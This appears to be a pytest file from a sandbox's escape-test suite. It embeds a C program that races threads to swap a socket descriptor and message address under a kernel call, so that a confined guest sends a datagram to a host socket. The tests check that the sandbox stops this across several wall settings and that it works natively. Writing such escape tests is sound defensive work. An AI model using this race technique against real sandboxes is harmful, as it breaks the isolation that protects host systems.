"""Where pidfd_getfd is refused, a thread of the guest is made to send its descriptor: another thread swaps the message and the
socket under it, so that the kernel, which reads them itself, sends to an address of the host."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.escape.attack import build, native
from tests.escape.conftest import Host

ATTACK = r"""
#include <sys/file.h>
/* argv[1]: a datagram socket of the host; argv[2]: how often. Natively, with a third argument, the message is sent as it is */
static struct sockaddr_un name = {.sun_family = AF_UNIX};
static char *page;
static int mine, template_, reached;
static void *swap(void *_) {
    while (!race_over) {
        if (fcntl(mine + 1, F_GETFD) < 0) continue;     /* the channel is there: in its place our own socket, */
        reached += pread(template_, page, 16, 0) == 16; /* in its message an address (where the page is mapped) */
        dup2(mine, mine + 1);
        reached += pread(template_, page, 16, 0) == 16;
        for (volatile int i = 0; i < 3000; i++) continue;
        close(mine + 1);
    }
    return NULL;
}
int main(int argc, char **argv) {
    struct { void *name; socklen_t size, pad; } head = {&name, sizeof name, 0};
    strcpy(name.sun_path, argv[1]);
    template_ = memfd_create("template", 0);
    write(template_, &head, sizeof head);
    int file = open("/tmp", O_RDONLY | O_DIRECTORY);
    mine = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (argc > 3) return sendto(mine, "x", 1, 0, (void *)&name, sizeof name) == 1 ? WON : LOST;
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); /* where the next one will be */
    pthread_t thread = race(swap);
    munmap(page, 4096);
    char *again = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    page = again;
    munmap(again, 4096);
    for (int i = 0; i < atoi(argv[2]); i++) flock(file, LOCK_SH | LOCK_NB); /* a call that borrows */
    race_over = 1;
    printf("reached=%d\n", reached);
    return reached ? WON : LOST;
}
"""
SCRIPT = """
import sys
sys.path[:0] = {path!r}
from pathlib import Path
from tests.escape.attack import inside
outcome = inside(Path({program!r}), {address!r}, 1000, walls={walls!r}, timeout=100)
print(outcome)
"""


@pytest.mark.parametrize("walls", ["no namespaces", "no wall", "no Landlock"])
def test_no_message_reaches_the_host(host: Host, walls: str) -> None:
    """INVARIANT no-continue: what the kernel reads itself is out of the guest's reach meanwhile."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as daemon:
        daemon.bind(str(host.secret / "datagrams"))
        daemon.setblocking(False)
        script = SCRIPT.format(path=sys.path, program=str(build(ATTACK)), address=daemon.getsockname(), walls=walls)
        command = [
            sys.executable,
            "-m",
            "tests.refusing",
            "pidfd_getfd",
            "--",
            sys.executable,
            "-W",
            "ignore",
            "-c",
            script,
        ]
        done = subprocess.run(command, capture_output=True, text=True, timeout=200, cwd=Path(__file__).parents[2])
        assert "status=43" in done.stdout and "reached=0" in done.stdout, done
        with pytest.raises(BlockingIOError):
            daemon.recv(10)


def test_natively_it_is_sent(host: Host) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as daemon:
        daemon.bind(str(host.secret / "datagrams"))
        os.chmod(host.secret / "datagrams", 0o777)
        assert native(build(ATTACK), host.secret / "datagrams", 1, "natively").won
